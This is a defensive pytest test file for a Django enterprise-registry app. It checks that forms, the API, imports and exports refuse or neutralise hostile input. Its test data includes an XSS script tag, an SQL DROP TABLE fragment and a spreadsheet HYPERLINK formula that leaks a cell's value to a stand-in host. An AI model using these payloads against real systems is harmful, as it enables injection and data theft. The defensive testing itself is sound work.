"""Hostile input: what a careless spreadsheet or a malicious user sends, through forms, API and imports.

Every value gets a clear answer (a 4xx with a field error, or an import row/file error with a code; never
a 500) and nothing is stored that should not be. Values that are legitimate text (HTML, SQL fragments,
a leading + or @) are stored verbatim and made harmless where they are shown: escaped in pages,
neutralised in CSV exports.

Characters that are never legitimate in a name or a code (sentra.core.text: control characters, NUL,
zero-width and bidi characters) are refused with the same code in every channel: import (engine, CLI,
web, API, background job), web form and API. Numbers too large for any column (1E+308, 29 digits, a
latitude of 1e30) are a row or field error, never a traceback or a 500. Records stored before that
rule still export: every row is written.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from sentra.accounts.models import Role
from sentra.accounts.services import token_create
from sentra.accounts.tests.factories import actor_of, persona
from sentra.conftest import PPU, SALOLOANG
from sentra.core.import_kinds import import_file
from sentra.registry.models import Enterprise
from sentra.registry.tests.factories import AgencyFactory

pytestmark = pytest.mark.django_db

LONG = "A" * 10_000
SCRIPT = "<script>alert(1)</script>"
SQL = "'; DROP TABLE registry_enterprise; --"
HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def officer():
    """A regency officer of PPU: may create enterprises in Saloloang."""
    dinas = AgencyFactory(name="Dinas Perindustrian Kab. Penajam Paser Utara", region_id=PPU)
    return persona(Role.REGENCY_OFFICER, agency=dinas)


@pytest.fixture
def web(client, officer):
    client.force_login(officer)
    return client


@pytest.fixture
def api(client, officer):
    _token, key = token_create(user=officer, name="hostile")
    headers = {"HTTP_AUTHORIZATION": f"Bearer {key}"}

    def post(payload: dict):
        return client.post(
            "/api/v1/enterprises", data=json.dumps(payload), content_type="application/json", **headers
        )

    return post


def export_cells(client, name: str) -> list[str]:
    response = client.get(reverse("web:enterprise_export"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    return [row[1] for row in rows[1:] if name.lstrip("=+-@'") in row[1]]


# --- values that must be refused ---------------------------------------------------------------------

# (field, value, form field with the error). The web form carries village and KBLI as text fields.
REFUSED = [
    pytest.param("name", LONG, "name", id="name-10k-chars"),
    pytest.param("name", "UD Amplang\x00Sejahtera", "name", id="name-nul-byte"),
    pytest.param("workers", -5, "workers", id="workers-negative"),
    pytest.param("investment", 10**30, "investment", id="investment-10e30"),
    pytest.param("latitude", 999, "latitude", id="latitude-999"),
    pytest.param("longitude", -999, "longitude", id="longitude-minus-999"),
    pytest.param("year_started", 2999, "year_started", id="year-2999"),
    pytest.param("nib", "91200'; DROP--", "nib", id="nib-sql-fragment"),
    # characters of sentra.core.text
    pytest.param("name", "IKM Kopra\u200d Harapan", "name", id="name-zero-width-joiner"),
    pytest.param("name", "IKM Kopra\u200bHarapan", "name", id="name-zero-width-space"),
    pytest.param("name", "\ufeffIKM Kopra Harapan", "name", id="name-byte-order-mark"),
    pytest.param("name", "Toko \u202eRTL override", "name", id="name-rtl-override"),
    pytest.param("name", "Toko \u2067isolate\u2069", "name", id="name-bidi-isolate"),
    pytest.param("name", "Toko\x1b[31m Merah", "name", id="name-escape-sequence"),
    pytest.param("name", "Toko\x85Merah", "name", id="name-c1-control"),
    pytest.param("name", "UD Amplang\nSejahtera", "name", id="name-line-break"),
    pytest.param("name", "UD Amplang\tSejahtera", "name", id="name-tab"),
    pytest.param("owner_name", "Siti\x07 Aminah", "owner_name", id="owner-bell"),
    pytest.param("address", "Jl. Propinsi\u200e Km 1", "address", id="address-lrm"),
    # numbers no column holds
    pytest.param("investment", "1E+308", "investment", id="investment-1e308"),
    pytest.param("investment", "9" * 29, "investment", id="investment-29-digits"),
    pytest.param("latitude", 1e30, "latitude", id="latitude-1e30"),
    pytest.param("latitude", "1" * 29, "latitude", id="latitude-29-digits"),
    pytest.param("longitude", 1e308, "longitude", id="longitude-1e308"),
    pytest.param("latitude", "-1e-999999999", "latitude", id="latitude-tiny-exponent"),
    pytest.param("workers", "1E+308", "workers", id="workers-1e308"),
]

# The code each refused character comes back with, in every channel.
CHARACTER_CODES = [
    pytest.param("IKM Kopra\u200d Harapan", "invisible_character", id="zero-width-joiner"),
    pytest.param("Toko \u202eRTL", "bidi_character", id="rtl-override"),
    pytest.param("UD Amplang\x00Sejahtera", "control_character", id="nul"),
    pytest.param("Toko\x1b[31m Merah", "control_character", id="escape"),
    pytest.param("Toko\x9bMerah", "control_character", id="c1"),
    pytest.param("UD Amplang\nSejahtera", "control_character", id="line-break"),
]


def web_data(**overrides) -> dict:
    return {
        "name": "UD Amplang Sejahtera",
        "village_code": SALOLOANG,
        "kbli_code": "10794",
        "workers": 4,
        "investment": 50_000_000,
        "status": "active",
        **overrides,
    }


def api_data(**overrides) -> dict:
    data = {"name": "UD Amplang Sejahtera", "village": SALOLOANG, "kbli": "10794", **overrides}
    return data


@pytest.mark.parametrize(("field", "value", "error_field"), REFUSED)
def test_the_web_form_refuses_a_hostile_value_with_a_field_error(web, field, value, error_field):
    before = Enterprise.objects.count()
    response = web.post(reverse("web:enterprise_create"), web_data(**{field: value}))
    assert response.status_code == 200
    assert error_field in response.context["form"].errors
    assert Enterprise.objects.count() == before


# The API refuses NUL as the web form does (Django's form CharField): a 422 naming the field.
@pytest.mark.parametrize(("field", "value", "error_field"), REFUSED)
def test_the_api_refuses_a_hostile_value_with_a_field_error(api, field, value, error_field):
    before = Enterprise.objects.count()
    response = api(api_data(**{field: value}))
    assert response.status_code in (400, 422), (response.status_code, response.content[:300])
    assert error_field in json.dumps(response.json())
    assert Enterprise.objects.count() == before


# --- text that is legitimate, stored verbatim and shown harmlessly ----------------------------------

VERBATIM = [
    pytest.param(SCRIPT, id="html-script"),
    pytest.param(SQL, id="sql-fragment"),
    pytest.param(HYPERLINK, id="formula-hyperlink"),
    pytest.param("Kopra Ñusantara – Café 椰子 🥥", id="accents-cjk-emoji"),
    pytest.param("UD\u00a0Amplang", id="no-break-space"),
    pytest.param("+62 812 3456", id="leading-plus"),
    pytest.param("-Amplang-", id="leading-minus"),
    pytest.param("@SUM(1+1)", id="leading-at"),
]


@pytest.mark.parametrize("name", VERBATIM)
def test_the_web_form_stores_odd_text_verbatim_and_shows_it_escaped(web, name):
    response = web.post(reverse("web:enterprise_create"), web_data(name=name))
    assert response.status_code == 302
    stored = Enterprise.objects.get()
    assert stored.name == name
    page = web.get(reverse("web:enterprise_detail", args=[stored.pk])).content.decode()
    assert SCRIPT not in page
    if name == SCRIPT:
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    # In a CSV export no cell starts a formula: = + - @ get a leading apostrophe.
    [cell] = export_cells(web, name)
    assert not cell.startswith(("=", "+", "-", "@"))
    assert cell in (name, "'" + name)


@pytest.mark.parametrize("name", VERBATIM)
def test_the_api_stores_odd_text_verbatim(api, name):
    response = api(api_data(name=name))
    assert response.status_code == 201, response.content[:300]
    assert response.json()["name"] == name
    assert Enterprise.objects.get().name == name


@pytest.mark.parametrize(("name", "code"), CHARACTER_CODES)
def test_the_api_names_the_refused_character_with_its_code(api, name, code):
    response = api(api_data(name=name))
    if "\x00" in name:  # NUL is refused by the API schema's text type already: 422, the same code
        assert response.status_code == 422, response.content[:300]
        found = [(e["loc"][-1], e["type"]) for e in response.json()["detail"]]
    else:
        assert response.status_code == 400, response.content[:300]
        found = [(e["field"], e["code"]) for e in response.json()["errors"]]
    assert ("name", code) in found
    assert Enterprise.objects.count() == 0


@pytest.mark.parametrize(("name", "code"), CHARACTER_CODES)
def test_the_web_form_shows_which_character_and_where(web, name, code):
    response = web.post(reverse("web:enterprise_create"), web_data(name=name))
    assert response.status_code == 200
    [message] = response.context["form"].errors["name"]
    if "\x00" not in name:  # NUL: Django's form field refuses it before the service
        assert "U+" in message and "posisi" in message
    assert Enterprise.objects.count() == 0


def test_free_text_keeps_its_line_breaks_but_not_other_controls(officer):
    """A TextField (a centre's description) may hold lines and tabs; a CharField may not."""
    from sentra.core.errors import DomainError
    from sentra.core.validation import full_clean_or_raise
    from sentra.registry.models import Centre

    centre = Centre(name="Sentra Kopra", description="Baris satu\r\nBaris dua\tkolom")
    with pytest.raises(DomainError) as caught:
        full_clean_or_raise(centre)
    assert not [e for e in caught.value.errors if e.field == "description"]
    centre.description = "Baris satu\x00"
    centre.name = "Sentra\nKopra"
    with pytest.raises(DomainError) as caught:
        full_clean_or_raise(centre)
    codes = {e.field: e.code for e in caught.value.errors}
    assert codes["description"] == "control_character" and codes["name"] == "control_character"


# The defect found: a zero-width joiner made a second "IKM Kopra Harapan" next to the first.
ZWJ_TWIN = "IKM Kopra\u200d Harapan"


@pytest.fixture
def kopra_harapan(officer):
    from sentra.registry.tests.factories import EnterpriseFactory

    return EnterpriseFactory(name="IKM Kopra Harapan", village_id=SALOLOANG, nib="")


def test_a_zero_width_twin_of_an_existing_name_is_refused_everywhere(tmp_path, officer, web, kopra_harapan):
    response = web.post(reverse("web:enterprise_create"), web_data(name=ZWJ_TWIN))
    assert "name" in response.context["form"].errors
    report = import_file(
        kind="enterprises",
        actor=actor_of(officer),
        path=csv_file(tmp_path, (HEADER + row(name=ZWJ_TWIN)).encode()),
        commit=True,
    )
    assert (2, "nama_usaha", "invisible_character") in [(e.row, e.column, e.code) for e in report.errors]
    assert list(Enterprise.objects.values_list("name", flat=True)) == ["IKM Kopra Harapan"]


def test_a_zero_width_twin_is_refused_by_the_api(api, kopra_harapan):
    response = api(api_data(name=ZWJ_TWIN))
    assert response.status_code == 400
    assert Enterprise.objects.count() == 1


def test_a_sql_fragment_is_only_text(web):
    web.post(reverse("web:enterprise_create"), web_data(name=SQL))
    assert Enterprise.objects.filter(name=SQL).count() == 1
    response = web.get(reverse("web:enterprise_list"), {"q": SQL})
    assert response.status_code == 200  # the table is still there, and the search is a parameter


# --- imports -------------------------------------------------------------------------------------------

HEADER = "nama_usaha,kbli,kode_wilayah,tenaga_kerja,investasi,lintang,tahun_mulai,kapasitas_produksi\n"


def csv_file(tmp_path, data: bytes):
    path = tmp_path / "ikm.csv"
    path.write_bytes(data)
    return path


def row(
    name="UD Amplang", workers="4", investment="1000000", latitude="", year="", capacity="", village=SALOLOANG
) -> str:
    cells = [name, "10794", village, workers, investment, latitude, year, capacity]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


ROW_ERRORS = [
    pytest.param(row(name=LONG), "nama_usaha", "too_long", id="name-10k-chars"),
    pytest.param(row(name=HYPERLINK), "nama_usaha", "formula", id="formula-hyperlink"),
    pytest.param(row(workers="-5"), "tenaga_kerja", "out_of_range", id="workers-negative"),
    pytest.param(row(investment="1" + "0" * 30), "investasi", "out_of_range", id="investment-10e30"),
    pytest.param(row(latitude="999"), "lintang", "out_of_range", id="latitude-999"),
    pytest.param(row(year="2999"), "tahun_mulai", "out_of_range", id="year-2999"),
    pytest.param(row(workers="=1+1"), "tenaga_kerja", "formula", id="formula-in-number"),
    # characters of sentra.core.text, in any column
    pytest.param(row(name="IKM Kopra\u200d Harapan"), "nama_usaha", "invisible_character", id="name-zwj"),
    pytest.param(row(name="IKM Kopra\u200bHarapan"), "nama_usaha", "invisible_character", id="name-zwsp"),
    pytest.param(
        row(name="IKM Kopra\u2060Harapan"), "nama_usaha", "invisible_character", id="name-word-joiner"
    ),
    pytest.param(row(name="Toko \u202eRTL"), "nama_usaha", "bidi_character", id="name-rtl-override"),
    pytest.param(row(name="Toko \u200fRLM"), "nama_usaha", "bidi_character", id="name-rlm"),
    pytest.param(row(name="Toko\x1b[31m Merah"), "nama_usaha", "control_character", id="name-escape"),
    pytest.param(row(name="Toko\x85Merah"), "nama_usaha", "control_character", id="name-c1"),
    pytest.param(row(name="Toko\x7fMerah"), "nama_usaha", "control_character", id="name-del"),
    pytest.param(row(name="UD Amplang\nSejahtera"), "nama_usaha", "control_character", id="name-line-break"),
    pytest.param(row(name="UD Amplang\tSejahtera"), "nama_usaha", "control_character", id="name-tab"),
    pytest.param(
        row(village=SALOLOANG + "\u200b"), "kode_wilayah", "invisible_character", id="village-code-zwsp"
    ),
    pytest.param(row(workers="4\u200b"), "tenaga_kerja", "invisible_character", id="number-zwsp"),
    # numbers no column holds: a row error, never decimal.InvalidOperation
    pytest.param(row(capacity="1E+308"), "kapasitas_produksi", "out_of_range", id="capacity-1e308"),
    pytest.param(row(capacity="9" * 29), "kapasitas_produksi", "out_of_range", id="capacity-29-digits"),
    pytest.param(row(latitude="1e30"), "lintang", "out_of_range", id="latitude-1e30"),
    pytest.param(row(latitude="1" * 29), "lintang", "out_of_range", id="latitude-29-digits"),
    pytest.param(row(latitude="9e999999999"), "lintang", "out_of_range", id="latitude-huge-exponent"),
    pytest.param(row(latitude="inf"), "lintang", "not_number", id="latitude-inf"),
    pytest.param(row(latitude="NaN"), "lintang", "not_number", id="latitude-nan"),
    pytest.param(row(investment="1E+308"), "investasi", "not_integer", id="investment-1e308"),
    pytest.param(row(investment="9" * 29), "investasi", "out_of_range", id="investment-29-digits"),
    pytest.param(row(investment="9" * 5000), "investasi", "out_of_range", id="investment-5000-digits"),
]


@pytest.mark.parametrize(("line", "column", "code"), ROW_ERRORS)
def test_an_import_reports_a_hostile_cell_as_a_row_error_and_writes_nothing(
    tmp_path, officer, line, column, code
):
    report = import_file(
        kind="enterprises",
        actor=actor_of(officer),
        path=csv_file(tmp_path, (HEADER + line).encode()),
        commit=True,
    )
    assert (2, column, code) in [(e.row, e.column, e.code) for e in report.errors]
    assert not report.committed
    assert Enterprise.objects.count() == 0


FILE_ERRORS = [
    pytest.param(
        (HEADER + row(name="Kerupuk Ikan Tenggiri Bu Siti Ñ")).encode("latin-1"), "encoding", id="latin-1"
    ),
    pytest.param((HEADER + row()).encode("utf-16"), "encoding", id="utf-16"),
    pytest.param((HEADER + row(name="UD\x00Amplang")).encode(), "file_type", id="nul-byte"),
]


@pytest.mark.parametrize(("data", "code"), FILE_ERRORS)
def test_an_import_refuses_a_badly_encoded_file_with_one_clear_error(tmp_path, officer, data, code):
    report = import_file(
        kind="enterprises", actor=actor_of(officer), path=csv_file(tmp_path, data), commit=True
    )
    assert [e.code for e in report.errors] == [code]
    assert report.errors[0].row is None and report.errors[0].message
    assert Enterprise.objects.count() == 0


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(SCRIPT, id="html-script"),
        pytest.param(SQL, id="sql-fragment"),
        pytest.param("+62 812 3456", id="leading-plus"),
        pytest.param("@SUM(1+1)", id="leading-at"),
        pytest.param("Kopra Ñusantara – Café 椰子 🥥", id="accents-cjk-emoji"),
        pytest.param("UD\u00a0Amplang", id="no-break-space"),
    ],
)
def test_an_import_stores_odd_text_verbatim(tmp_path, officer, name):
    path = csv_file(tmp_path, (HEADER + row(name=name)).encode())
    report = import_file(kind="enterprises", actor=actor_of(officer), path=path, commit=True)
    assert report.ok and report.created == 1, report.as_dict()["errors"]
    assert Enterprise.objects.get().name == name


def test_the_import_api_answers_a_binary_upload_with_a_file_error(client, officer):
    from django.core.files.uploadedfile import SimpleUploadedFile

    _token, key = token_create(user=officer, name="hostile")
    upload = SimpleUploadedFile("ikm.csv", b"\x00\x01\x02PK\x00garbage" * 100, content_type="text/csv")
    response = client.post(
        "/api/v1/imports/enterprises?commit=true", {"file": upload}, HTTP_AUTHORIZATION=f"Bearer {key}"
    )
    assert response.status_code == 200
    assert [e["code"] for e in response.json()["report"]["errors"]] == ["file_type"]
    assert Enterprise.objects.count() == 0


def test_a_nul_past_the_start_of_a_csv_is_a_row_error(tmp_path, officer):
    """The first 8 KiB are sniffed (a NUL there: "not CSV", above); a NUL further on is the cell's error."""
    good = "".join(row(name=f"UD Amplang {n}") for n in range(300))
    data = (HEADER + good + row(name="UD\x00Amplang")).encode()
    assert data.index(b"\x00") > 8192
    report = import_file(
        kind="enterprises", actor=actor_of(officer), path=csv_file(tmp_path, data), commit=True
    )
    assert [(e.row, e.column, e.code) for e in report.errors] == [(302, "nama_usaha", "control_character")]
    assert "U+0000" in report.errors[0].message
    assert Enterprise.objects.count() == 0


def test_an_xlsx_with_hostile_cells_gives_row_errors(tmp_path, officer):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER.strip().split(","))
    sheet.append(["IKM Kopra\u200d Harapan", "10794", SALOLOANG, 4, 1000000, None, None, None])
    sheet.append(["UD Amplang", "10794", SALOLOANG, 4, 1000000, 1e30, None, 1e308])
    sheet.append(["UD Amplang 2", "10794", SALOLOANG, 1e308, 10**29, None, None, None])
    path = tmp_path / "ikm.xlsx"
    workbook.save(path)
    report = import_file(kind="enterprises", actor=actor_of(officer), path=path, commit=True)
    assert {(e.row, e.column, e.code) for e in report.errors} >= {
        (2, "nama_usaha", "invisible_character"),
        (3, "lintang", "out_of_range"),
        (3, "kapasitas_produksi", "out_of_range"),
        (4, "tenaga_kerja", "out_of_range"),
        (4, "investasi", "out_of_range"),
    }
    assert Enterprise.objects.count() == 0


HOSTILE_FILE = (HEADER + row(capacity="1E+308") + row(name="Toko \u202eRTL", latitude="1e30")).encode()
HOSTILE_ERRORS = [
    (2, "kapasitas_produksi", "out_of_range"),
    (3, "nama_usaha", "bidi_character"),
    (3, "lintang", "out_of_range"),
]


def test_the_cli_reports_hostile_cells_per_row_without_a_traceback(tmp_path, officer, capsys):
    from django.core.management import call_command

    with pytest.raises(SystemExit) as caught:
        call_command("import", "enterprises", str(csv_file(tmp_path, HOSTILE_FILE)), "--as", officer.username)
    assert caught.value.code == 1
    out = capsys.readouterr().out
    assert "baris 2 [kapasitas_produksi]" in out and "out_of_range" in out and "bidi_character" in out
    assert Enterprise.objects.count() == 0


def upload(data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("ikm.csv", data, content_type="text/csv")


def test_the_import_api_reports_hostile_cells_per_row(client, officer):
    _token, key = token_create(user=officer, name="hostile")
    response = client.post(
        "/api/v1/imports/enterprises?commit=true",
        {"file": upload(HOSTILE_FILE)},
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )
    assert response.status_code == 200
    errors = response.json()["report"]["errors"]
    assert [(e["row"], e["column"], e["code"]) for e in errors] == HOSTILE_ERRORS
    assert Enterprise.objects.count() == 0


def test_the_import_page_reports_hostile_cells_per_row(web):
    from sentra.core.models import Job

    response = web.post(
        reverse("web:import_upload"),
        {"kind": "enterprises", "file": upload(HOSTILE_FILE), "action": "commit"},
    )
    assert response.status_code == 302
    job = Job.objects.get()
    assert job.status == Job.Status.SUCCEEDED
    assert [(e["row"], e["column"], e["code"]) for e in job.result["errors"]] == HOSTILE_ERRORS
    page = web.get(response["Location"])
    assert page.status_code == 200 and "bidi_character" in page.content.decode()
    assert Enterprise.objects.count() == 0


def test_a_background_import_of_hostile_cells_ends_with_its_report(settings, officer):
    """A file large enough for a background job: the job succeeds with the per-row report, it does not
    fail with "Pekerjaan gagal karena kesalahan sistem"."""
    from sentra.core.import_kinds import import_upload
    from sentra.core.jobs import job_run
    from sentra.core.models import Job

    settings.SENTRA_IMPORT_BACKGROUND_BYTES = 0
    job = import_upload(
        kind="enterprises", upload=upload(HOSTILE_FILE), commit=True, actor=actor_of(officer), user=officer
    )
    assert job.status == Job.Status.QUEUED
    job_run(job.pk)  # the test's transaction never commits: run it here, as the thread would
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED, job.result
    assert [(e["row"], e["column"], e["code"]) for e in job.result["errors"]] == HOSTILE_ERRORS
    assert Enterprise.objects.count() == 0


# --- exports of records stored before the rule ----------------------------------------------------------


@pytest.fixture
def stored_before_the_rule():
    """Three enterprises, the middle one's name holding control characters (written past validation;
    not NUL, which PostgreSQL cannot store at all)."""
    from sentra.registry.tests.factories import EnterpriseFactory

    return [
        EnterpriseFactory(name="UD Awal"),
        EnterpriseFactory(name="UD Bel\x07Kontrol\x01Soh\x1b[31m"),
        EnterpriseFactory(name="UD Akhir"),
    ]


def test_an_xlsx_export_writes_every_record_even_with_control_characters(client, stored_before_the_rule):
    from openpyxl import load_workbook

    from sentra.accounts.tests.factories import persona

    ministry = AgencyFactory(name="Direktorat Jenderal IKMA", kind="ministry", region_id=None)
    client.force_login(persona(Role.MINISTRY_ADMIN, agency=ministry))
    response = client.get(reverse("web:enterprise_export"), {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    names = sorted(row[1] for row in sheet.iter_rows(min_row=2, values_only=True))
    assert names == ["UD Akhir", "UD Awal", "UD Bel\ufffdKontrol\ufffdSoh\ufffd[31m"]


def test_a_csv_export_writes_control_characters_as_the_xlsx_does(web, stored_before_the_rule):
    [cell] = export_cells(web, "Kontrol")
    assert cell == "UD Bel\ufffdKontrol\ufffdSoh\ufffd[31m"


CENTRE_HEADER = "nama_sentra,komoditas,kbli,kode_wilayah,bahan_baku,keterangan\n"


def centre_row(name="Sentra Kopra", material="Kelapa", notes="") -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([name, "Kopra", "10421", SALOLOANG, material, notes])
    return out.getvalue()


def test_a_centre_import_refuses_each_hostile_cell_once_and_keeps_free_text_lines(tmp_path, officer):
    from sentra.registry.models import Centre

    data = CENTRE_HEADER + centre_row(material="Kelapa\u200d") + centre_row(name="Sentra Kopra \u202eB")
    report = import_file(
        kind="centres", actor=actor_of(officer), path=csv_file(tmp_path, data.encode()), commit=True
    )
    assert [(e.row, e.column, e.code) for e in report.errors] == [
        (2, "bahan_baku", "invisible_character"),
        (3, "nama_sentra", "bidi_character"),
    ]
    data = CENTRE_HEADER + centre_row(notes="Baris satu\nBaris dua\tdengan tab")
    report = import_file(
        kind="centres", actor=actor_of(officer), path=csv_file(tmp_path, data.encode()), commit=True
    )
    assert report.ok, report.as_dict()["errors"]
    assert Centre.objects.get().description == "Baris satu\nBaris dua\tdengan tab"


def test_a_nul_past_the_start_of_a_csv_comes_back_through_the_api(client, officer):
    """The report echoes the cell's value, and PostgreSQL's jsonb cannot hold a NUL: the echo shows U+FFFD."""
    good = "".join(row(name=f"UD Amplang {n}") for n in range(300))
    _token, key = token_create(user=officer, name="hostile")
    response = client.post(
        "/api/v1/imports/enterprises?commit=true",
        {"file": upload((HEADER + good + row(name="UD\x00Amplang")).encode())},
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )
    assert response.status_code == 200, response.content[:300]
    [error] = response.json()["report"]["errors"]
    assert (error["row"], error["column"], error["code"]) == (302, "nama_usaha", "control_character")
    assert error["value"] == "UD\ufffdAmplang"
    assert Enterprise.objects.count() == 0


def test_neutralised_text_fits_a_workbook_cell_as_the_report_writers_set_it():
    """The report workbooks (programmes/reports/xlsx.py) set cells one by one, through neutralise:
    openpyxl raises IllegalCharacterError at the assignment for a raw control character."""
    from openpyxl import Workbook
    from openpyxl.utils.exceptions import IllegalCharacterError

    from sentra.core.exports import neutralise

    sheet = Workbook().active
    with pytest.raises(IllegalCharacterError):
        sheet.cell(row=1, column=1, value="Kegiatan\x01A")
    cell = sheet.cell(row=2, column=1, value=neutralise("Kegiatan\x01A\x1b\x9f\tB\nC"))
    assert cell.value == "Kegiatan\ufffdA\ufffd\ufffd\tB\nC"
